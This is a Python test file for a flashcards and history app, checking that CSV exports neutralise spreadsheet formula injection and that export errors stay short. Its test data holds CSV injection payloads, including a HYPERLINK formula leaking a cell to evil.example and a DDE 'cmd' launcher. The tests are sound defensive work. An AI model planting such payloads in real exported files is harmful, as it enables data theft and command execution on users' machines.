"""Exports a spreadsheet cannot be tricked by, and export errors that are one line."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from click.testing import CliRunner

from agents.csv_cells import safe_cell, unescape_cell
from agents.flashcards.exchange import export_csv, import_csv
from agents.flashcards.store import Deck
from agents.history.export import to_csv
from agents.history.store import Attempt
from ui.cli import main

T0 = datetime(2026, 11, 26, 9, 0, tzinfo=UTC)
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def test_every_formula_start_is_made_inert_and_comes_back_on_import() -> None:
    for text in FORMULAS:
        cell = safe_cell(text)
        assert cell.startswith("'") and unescape_cell(cell) == text
    assert safe_cell("plain text") == "plain text" and safe_cell(3.5) == 3.5
    assert unescape_cell("'quoted on purpose") == "'quoted on purpose"


def test_history_csv_cells_never_start_a_formula() -> None:
    attempts = [Attempt("s", T0, text, text, 2.0, 5, "partial", "test", question_id="q",
                        topic="genai", covered=[text], missing=[text]) for text in FORMULAS]
    rows = list(csv.reader(io.StringIO(to_csv(attempts))))[1:]
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_card_csv_round_trips_through_the_escape(tmp_path: Path) -> None:
    deck = Deck(tmp_path / "cards.sqlite3")
    source = io.StringIO("front,back,topic\n" + "\n".join(
        f"\"{t.replace(chr(34), chr(34) * 2)}\",back {n},genai" for n, t in enumerate(FORMULAS)))
    assert import_csv(deck, source, T0).added == len(FORMULAS)
    out = io.StringIO()
    export_csv(deck.cards(), out)
    exported = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    assert all(row[0].startswith("'") for row in exported)
    again = Deck(tmp_path / "again.sqlite3")
    import_csv(again, io.StringIO(out.getvalue()), T0)
    assert sorted(c.front for c in again.cards()) == sorted(c.front for c in deck.cards())
    assert "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in {
        c.front for c in again.cards()}  # the text itself survives, only inert in the file


def test_export_into_a_missing_folder_is_one_line(tmp_path: Path) -> None:
    target = tmp_path / "no" / "such" / "folder" / "history.csv"
    result = CliRunner().invoke(main, ["export", "--format", "csv", "-o", str(target)])
    assert result.exit_code != 0 and "Traceback" not in result.output
    assert len(result.stderr.strip().splitlines()) <= 3 and "does not exist" in result.stderr
    cards = CliRunner().invoke(main, ["cards", "export", str(target.with_suffix(".apkg"))])
    assert cards.exit_code != 0 and "Traceback" not in cards.output


def test_export_onto_a_full_device_is_one_line(tmp_path: Path) -> None:
    full = Path("/dev/full")  # every write to it fails with "No space left on device"
    if not full.exists() or full.is_file():
        return
    for command in (["cards", "export", "--format", "csv", str(full)],
                    ["export", "--format", "csv", "-o", str(full)]):
        result = CliRunner().invoke(main, command)
        assert result.exit_code != 0 and "Traceback" not in result.output
        assert "cannot write" in result.stderr and "No space left" in result.stderr
    assert full.is_char_device()  # written in place, never replaced by a file
